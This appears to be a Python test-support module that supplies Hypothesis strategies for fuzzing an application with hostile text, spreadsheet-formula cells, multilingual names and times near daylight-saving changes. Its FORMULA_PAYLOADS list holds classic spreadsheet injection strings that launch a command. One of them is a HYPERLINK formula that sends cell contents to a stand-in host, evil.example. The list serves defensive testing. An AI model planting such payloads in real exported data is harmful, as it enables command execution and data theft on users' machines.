"""Hostile input for the fuzz tests (tests/test_hostile_*.py): strategies and a settings profile.

Every strategy here produces what a real user, spreadsheet, terminal or network could send:
arbitrary text and bytes, formula-looking cells, control and bidirectional-override characters,
legitimate names in other scripts, and instants next to daylight-saving changes.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from functools import lru_cache
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# Fast and repeatable: each property sees a few dozen examples (the whole hostile suite stays
# well under 40 s on two shared cores) and no example is timed out for a slow first database.
# Function-scoped fixtures (the test database, the CLI runner) are shared by the examples of one
# test on purpose: the properties compare row counts before and after each example.
settings.register_profile(
    "hostile",
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
HOSTILE = settings.get_profile("hostile")

# Fuzzing runs on SQLite only (fast); the targeted tests take the two-backend ``db_url``.
sqlite_only = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)

# Characters that change how text around them is shown or read, or that no text should carry.
CONTROL = [chr(c) for c in range(0x00, 0x20)] + ["\x7f", "\x85", "\x9b"]
BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"]
INVISIBLE = ["\u200e", "\u200f", "\u061c", "\ufeff"]
# Spreadsheet formula prefixes, and the classic payloads behind them.
FORMULA_PREFIXES = ["=", "+", "-", "@"]
FORMULA_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
]
# Real names in other scripts and with emoji: these must be accepted and kept exactly.
LEGITIMATE_NAMES = [
    "محمد",  # Arabic
    "فاطمة الزهراء",
    "שרה",  # Hebrew
    "יוסף",
    "Zoë",
    "José María",
    "Łukasz",
    "Nguyễn",
    "李小龍",
    "Ñandú",
    "O'Brien",
    "Anne-Marie",
    "Ana 🌷",
    "👩\u200d⚕️ Dr. Ana",  # a zero-width joiner inside an emoji sequence
    "می\u200cخواهم",  # a zero-width non-joiner, as Persian spelling needs
]

# Any Unicode text except lone surrogates (which cannot come from a decoded file or form).
any_text = st.text(max_size=80)
# Text weighted towards the characters that break things. No lone surrogates here either: no
# decoded file, form or terminal argument holds one (undecodable argument bytes, which do arrive
# as surrogates, have a test of their own), and Twilio could not even sign a form with one.
nasty_char = st.one_of(
    st.sampled_from(CONTROL + BIDI + INVISIBLE + FORMULA_PREFIXES + list(",\"'\n\r;|<>{}%\\")),
    st.characters(exclude_categories=("Cs",)),
)
nasty_text = st.text(nasty_char, max_size=60)
formula_cell = st.one_of(
    st.sampled_from(FORMULA_PAYLOADS),
    st.builds(lambda p, rest: p + rest, st.sampled_from(FORMULA_PREFIXES), st.text(max_size=20)),
)
legitimate_name = st.sampled_from(LEGITIMATE_NAMES)
# A name with one character no name carries, somewhere inside it.
name_with_control = st.builds(
    lambda head, bad, tail: head + bad + tail,
    st.sampled_from(["Ana", "محمد", "שרה"]),
    st.sampled_from([c for c in CONTROL if not c.isspace()] + BIDI + INVISIBLE),
    st.sampled_from(["", "liam", "x"]),
)

# Zones with daylight-saving changes (north and south), a half-hour one, and fixed ones.
ZONES = [
    "America/New_York",
    "America/Chicago",
    "America/Los_Angeles",
    "America/Sao_Paulo",
    "Europe/London",
    "Europe/Madrid",
    "Australia/Sydney",
    "Australia/Lord_Howe",
    "Asia/Kolkata",
    "Pacific/Chatham",
    "Pacific/Kiritimati",
    "UTC",
]


@lru_cache(maxsize=64)
def transitions(zone: str, year: int) -> tuple[datetime, ...]:
    """The UTC instants in ``year`` at which ``zone`` changes its offset (to the minute)."""
    tz = ZoneInfo(zone)
    found: list[datetime] = []
    at = datetime(year, 1, 1, tzinfo=UTC)
    end = datetime(year + 1, 1, 1, tzinfo=UTC)
    step = timedelta(hours=6)
    while at < end:
        if at.astimezone(tz).utcoffset() != (at + step).astimezone(tz).utcoffset():
            low, high = at, at + step
            while high - low > timedelta(minutes=1):
                middle = low + (high - low) / 2
                if low.astimezone(tz).utcoffset() == middle.astimezone(tz).utcoffset():
                    low = middle
                else:
                    high = middle
            found.append(high.replace(second=0, microsecond=0))
        at += step
    return tuple(found)


@st.composite
def near_a_dst_change(draw: st.DrawFn, around: datetime) -> tuple[str, datetime]:
    """A zone and an instant within a day of one of its offset changes near ``around`` (or
    any instant near ``around`` for a zone without changes)."""
    zone = draw(st.sampled_from(ZONES))
    changes = [t for y in (around.year - 1, around.year) for t in transitions(zone, y)]
    changes = [t for t in changes if abs(t - around) <= timedelta(days=80)]
    base = draw(st.sampled_from(changes)) if changes else around
    offset = draw(st.integers(min_value=-24 * 60, max_value=24 * 60))
    return zone, base + timedelta(minutes=offset)
